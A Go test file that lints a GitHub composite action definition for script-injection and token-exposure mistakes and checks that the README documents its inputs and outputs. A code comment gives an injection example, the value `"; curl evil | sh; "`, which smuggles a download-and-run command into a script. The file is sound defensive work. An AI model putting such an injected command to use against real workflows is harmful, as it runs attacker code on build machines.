package main

import (
	"fmt"
	"os"
	"regexp"
	"sort"
	"strings"
	"testing"

	"go.yaml.in/yaml/v4"
)

// actionFile is the part of an action.yml the checks read.
type actionFile struct {
	Inputs map[string]struct {
		Description string `yaml:"description"`
	} `yaml:"inputs"`
	Outputs map[string]struct {
		Description string `yaml:"description"`
		Value       string `yaml:"value"`
	} `yaml:"outputs"`
	Runs struct {
		Using string `yaml:"using"`
		Steps []struct {
			Name  string            `yaml:"name"`
			Uses  string            `yaml:"uses"`
			Run   string            `yaml:"run"`
			Shell string            `yaml:"shell"`
			Env   map[string]string `yaml:"env"`
			With  map[string]string `yaml:"with"`
		} `yaml:"steps"`
	} `yaml:"runs"`
}

var (
	// inputInScript is an input expanded into a script's text, where a
	// value such as `"; curl evil | sh; "` would run as code.
	inputInScript = regexp.MustCompile(`\$\{\{\s*inputs\.`)
	// tokenInput is the whole of an env value that passes the token input.
	tokenInput = regexp.MustCompile(`^\$\{\{\s*inputs\.token\s*\}\}$`)
	// actionSection is the README's section about the action, up to the
	// next heading of its level or above (a "# " line in a code block is a
	// comment, not a heading).
	actionSection = regexp.MustCompile(`(?s)\n### A GitHub Action\n(.*?)(?:\n#{2,3} |\z)`)
)

// actionProblems returns what is wrong with an action.yml and the README
// that documents it.
func actionProblems(action, readme []byte) []string {
	var a actionFile
	if err := yaml.Unmarshal(action, &a); err != nil {
		return []string{fmt.Sprintf("action.yml does not parse: %v", err)}
	}
	var problems []string
	if a.Runs.Using != "composite" {
		problems = append(problems, fmt.Sprintf("runs.using = %q, want composite", a.Runs.Using))
	}
	names := make([]string, 0, len(a.Inputs))
	for name, in := range a.Inputs {
		names = append(names, name)
		if strings.TrimSpace(in.Description) == "" {
			problems = append(problems, fmt.Sprintf("input %s has no description", name))
		}
	}
	sort.Strings(names)
	for _, name := range []string{"exit-code", "verdict"} {
		if strings.TrimSpace(a.Outputs[name].Value) == "" {
			problems = append(problems, fmt.Sprintf("output %s missing or without a value", name))
		}
	}
	tokenViaEnv := false
	for i, step := range a.Runs.Steps {
		if step.Run == "" {
			continue
		}
		if inputInScript.MatchString(step.Run) {
			problems = append(problems, fmt.Sprintf("step %d (%s): run: expands an input into the script; pass it through env:", i+1, step.Name))
		}
		if strings.Contains(step.Run, "--token") {
			problems = append(problems, fmt.Sprintf("step %d (%s): run: passes --token on the command line", i+1, step.Name))
		}
		if step.Shell == "" {
			problems = append(problems, fmt.Sprintf("step %d (%s): a composite run step needs shell:", i+1, step.Name))
		}
		if tokenInput.MatchString(step.Env["PLANTCHECK_TOKEN"]) {
			tokenViaEnv = true
		}
	}
	if _, ok := a.Inputs["token"]; !ok {
		problems = append(problems, "no token input")
	} else if !tokenViaEnv {
		problems = append(problems, "the token input is not passed as env PLANTCHECK_TOKEN to a run step")
	}

	m := actionSection.FindSubmatch(readme)
	if m == nil {
		problems = append(problems, `README has no "### A GitHub Action" section`)
		return problems
	}
	section := string(m[1])
	for _, name := range names {
		if !strings.Contains(section, "`"+name+"`") {
			problems = append(problems, fmt.Sprintf("README's GitHub Action section does not mention input `%s`", name))
		}
	}
	for name := range a.Outputs {
		if !strings.Contains(section, "`"+name+"`") {
			problems = append(problems, fmt.Sprintf("README's GitHub Action section does not mention output `%s`", name))
		}
	}
	return problems
}

func TestActionFile(t *testing.T) {
	action, err := os.ReadFile("../../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	readme, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range actionProblems(action, readme) {
		t.Error(p)
	}
}

// Each check of actionProblems catches the fault it is for.
func TestActionProblems(t *testing.T) {
	const good = `
inputs:
  base-url: {description: the target}
  token: {description: the token, from a secret}
outputs:
  exit-code: {description: status, value: "${{ steps.run.outputs.exit-code }}"}
  verdict: {description: verdict, value: "${{ steps.run.outputs.verdict }}"}
runs:
  using: composite
  steps:
    - id: run
      shell: bash
      env:
        PLANTCHECK_TOKEN: ${{ inputs.token }}
        INPUT_BASE_URL: ${{ inputs.base-url }}
      run: plantcheck run --base-url "$INPUT_BASE_URL"
`
	const goodReadme = "# x\n\n### A GitHub Action\n\n`base-url`, `token`; outputs `exit-code`, `verdict`.\n\n### A config file\n"
	tests := []struct {
		name   string
		action string
		readme string
		want   string // a substring of one problem; "" for none
	}{
		{name: "good", action: good, readme: goodReadme},
		{name: "not YAML", action: "runs: [", readme: goodReadme, want: "does not parse"},
		{name: "not composite", action: strings.Replace(good, "using: composite", "using: node20", 1), readme: goodReadme, want: `runs.using = "node20"`},
		{name: "input without description", action: strings.Replace(good, "{description: the target}", "{required: false}", 1), readme: goodReadme, want: "input base-url has no description"},
		{
			name:   "input in a script",
			action: strings.Replace(good, `--base-url "$INPUT_BASE_URL"`, `--base-url "${{ inputs.base-url }}"`, 1),
			readme: goodReadme, want: "expands an input into the script",
		},
		{
			name:   "input in a script, spaced",
			action: strings.Replace(good, `--base-url "$INPUT_BASE_URL"`, `--base-url ${{inputs.base-url}}`, 1),
			readme: goodReadme, want: "expands an input into the script",
		},
		{
			name:   "token on the command line",
			action: strings.Replace(good, `--base-url "$INPUT_BASE_URL"`, `--token "$PLANTCHECK_TOKEN"`, 1),
			readme: goodReadme, want: "passes --token on the command line",
		},
		{
			name:   "token not via env",
			action: strings.Replace(good, "PLANTCHECK_TOKEN: ${{ inputs.token }}", "TOKEN: ${{ inputs.token }}", 1),
			readme: goodReadme, want: "not passed as env PLANTCHECK_TOKEN",
		},
		{name: "no shell", action: strings.Replace(good, "      shell: bash\n", "", 1), readme: goodReadme, want: "needs shell:"},
		{name: "no verdict output", action: strings.Replace(good, "  verdict: {description: verdict, value: \"${{ steps.run.outputs.verdict }}\"}\n", "", 1), readme: goodReadme, want: "output verdict missing"},
		{name: "no README section", action: good, readme: "# x\n\n`base-url` `token`\n", want: `no "### A GitHub Action" section`},
		{name: "input not in README", action: good, readme: strings.Replace(goodReadme, "`token`", "token", 1), want: "does not mention input `token`"},
		{
			name:   "input mentioned only in another section",
			action: good,
			readme: strings.Replace(goodReadme, "`token`;", ";", 1) + "`token`\n",
			want:   "does not mention input `token`",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			problems := actionProblems([]byte(tt.action), []byte(tt.readme))
			if tt.want == "" {
				if len(problems) > 0 {
					t.Errorf("problems %q, want none", problems)
				}
				return
			}
			found := false
			for _, p := range problems {
				found = found || strings.Contains(p, tt.want)
			}
			if !found {
				t.Errorf("problems %q, want one holding %q", problems, tt.want)
			}
		})
	}
}
